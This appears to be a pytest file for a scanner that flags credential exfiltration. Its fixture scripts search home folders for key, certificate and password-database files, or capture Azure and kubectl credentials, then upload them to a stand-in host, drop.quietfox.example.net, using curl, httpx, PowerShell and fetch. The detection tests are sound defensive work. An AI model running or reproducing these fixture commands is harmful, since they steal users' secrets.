"""The home folder searched for a kind of secret file by its name (``find ~ -name '*.ppk'``,
``os.walk`` filtered on ``.kdbx``, ``Get-ChildItem -Recurse -Include``, a recursive ``readdir``
tested against ``/\\.p12$/``), and credentials a CLI prints (``gh auth token``) captured by a
program: what is found is read, and sending it is theft."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_shell_find_over_home_by_secret_suffix_then_sent(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/gather.sh": "#!/bin/sh\n"
            "find \"$HOME\" -maxdepth 5 -iname '*.ppk' -exec curl -s -T {} https://drop.quietfox.example.net/u/ \\;\n"
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "scripts/gather.sh", 2) in errors


def test_python_walk_and_glob_of_home_filtered_on_secret_names(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/walk.py": "import os, httpx\n"
            "HOME = os.path.expanduser('~')\n"
            "for folder, _subdirs, names in os.walk(HOME):\n"
            "    for n in names:\n"
            "        if n.lower().endswith(('.kdbx', '.p12')):\n"
            "            blob = open(os.path.join(folder, n), 'rb').read()\n"
            "            httpx.post('https://drop.quietfox.example.net/w', content=blob)\n",
            "scripts/glob.py": "import glob, os, httpx\n"
            "for hit in glob.glob(os.path.expanduser('~/**/*credentials*'), recursive=True):\n"
            "    httpx.put('https://drop.quietfox.example.net/g', content=open(hit, 'rb').read())\n",
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "scripts/walk.py", 7) in errors
    assert ("CREDENTIAL_EXFILTRATION", "scripts/glob.py", 3) in errors


def test_powershell_and_node_searches_of_home(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/sweep.ps1": "$hits = Get-ChildItem -Path $HOME -Recurse -Filter '*.pfx'\n"
            "foreach ($h in $hits) { Invoke-WebRequest -Uri https://drop.quietfox.example.net/p -Method Put "
            "-InFile $h.FullName }\n",
            "scripts/sweep.mjs": "import { readdirSync, readFileSync } from 'node:fs';\n"
            "import { homedir } from 'node:os';\nimport { join } from 'node:path';\n"
            "for (const rel of readdirSync(homedir(), { recursive: true })) {\n"
            "  if (/\\.(ovpn|p12)$/i.test(rel)) await fetch('https://drop.quietfox.example.net/n', "
            "{ method: 'POST', body: readFileSync(join(homedir(), rel)) });\n}\n",
        },
    )
    assert any(rule == "CREDENTIAL_EXFILTRATION" and rel == "scripts/sweep.ps1" for rule, rel, _ in errors)
    assert ("CREDENTIAL_EXFILTRATION", "scripts/sweep.mjs", 5) in errors


def test_cli_credentials_captured_by_a_program_and_sent(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/token.js": "const { execFileSync } = require('child_process');\n"
            "const secret = execFileSync('az', ['account', 'get-access-token', '-o', 'tsv']).toString();\n"
            "fetch('https://drop.quietfox.example.net/t', { method: 'POST', body: secret });\n",
            "scripts/token.py": "import subprocess, httpx\n"
            "kube = subprocess.run(['kubectl', 'config', 'view', '--raw'], capture_output=True).stdout\n"
            "httpx.post('https://drop.quietfox.example.net/k', content=kube)\n",
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "scripts/token.js", 3) in errors
    assert ("CREDENTIAL_EXFILTRATION", "scripts/token.py", 3) in errors


def test_local_certificate_checks_and_ordinary_home_listings_stay_quiet(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/certs.sh": "#!/bin/sh\nfind . -name '*.pem' -exec openssl x509 -noout -subject -in {} \\;\n"
            "find ~/notes -name '*.md' -exec curl -s -F f=@{} https://notes.example.org/import \\;\n",
            "scripts/notes.py": "import os, httpx\n"
            "for folder, _d, names in os.walk(os.path.expanduser('~')):\n"
            "    for n in names:\n"
            "        if n.endswith('.md'):\n"
            "            httpx.post('https://notes.example.org/i', content=open(os.path.join(folder, n)).read())\n",
            "scripts/logs.ps1": "Get-ChildItem -Path $HOME -Recurse -Filter '*.log' | Measure-Object\n",
            "scripts/list.js": "const fs = require('fs'), os = require('os');\n"
            "fetch('https://notes.example.org/l', { method: 'POST', body: fs.readdirSync(os.homedir()).join(',') });\n",
        },
    )
    assert not errors
